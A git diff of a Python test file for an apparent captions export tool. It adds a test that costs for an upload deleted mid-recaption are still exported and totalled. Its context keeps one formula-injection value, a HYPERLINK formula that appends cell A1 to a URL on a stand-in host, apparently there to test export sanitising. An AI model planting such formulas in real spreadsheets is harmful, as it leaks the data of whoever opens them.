@@ -12,6 +12,8 @@ from typing import Any
 import pyarrow.parquet as pq
 import pytest
 
+from captions.records.spending import spending
+from captions.records.table import Begun
 from captions_cli import exporting
 from captions_cli.errors import CommandError
 from captions_cli.exporting import COLUMNS, ExportedDay, Scope
@@ -19,7 +21,15 @@ from support.api import NOW, Api, api_on
 from support.pipeline import BUCKET, aws_for_the_pipeline
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"dog")'
-ATTEMPT = {"model": "m", "outcome": "ok", "prompt_tokens": 700, "completion_tokens": 90, "cost": "0.000012345678"}
+ATTEMPT: dict[str, Any] = {
+    "model": "m",
+    "outcome": "ok",
+    "prompt_tokens": 700,
+    "completion_tokens": 90,
+    "cost": "0.000012345678",
+}
+
+LATER = {"started_at": "2026-11-01T10:00:00Z"}
 
 
 @pytest.fixture(scope="module")
@@ -188,3 +198,19 @@ def test_unknown_costs_stay_beside_the_known_ones(api: Api) -> None:
     attempt = {"model": "m", "outcome": "ok", "prompt_tokens": 5, "completion_tokens": 2}
     row = exporting.row(api.captioned("unpriced.jpg", attempts=(attempt,)))
     assert (row["dollars"], row["uncounted_calls"], row["prompt_tokens"]) == ("0", 1, 5)
+
+
+def test_what_was_paid_for_an_upload_that_went_while_it_was_captioned_once_more_is_exported(api: Api) -> None:
+    record = api.captioned("gone.jpg", attempts=(ATTEMPT,), cost=ATTEMPT["cost"])
+    again, now = api.records.recaption(record, "force", now=NOW + 60, due=NOW), NOW + 61
+    assert again is not None
+    lease = api.records.begin(again.upload, now=now, lease_until=now + 9)
+    assert isinstance(lease, Begun)
+    both = [*lease.record.attempts, ATTEMPT | LATER]
+    api.records.release(again.upload, now + 9, now=now, due=now, attempts=both)
+    later = again.upload.model_copy(update={"sequencer": "F" * 64})
+    deleted = api.records.delete(later, now=now)
+    assert deleted is not None
+    row, (_, total) = exporting.row(deleted), spending([deleted], "day")
+    assert (row["calls"], row["prompt_tokens"], Decimal(row["dollars"])) == (2, 1_400, total.cost.dollars)
+    assert total.cost.dollars == 2 * Decimal(str(ATTEMPT["cost"]))
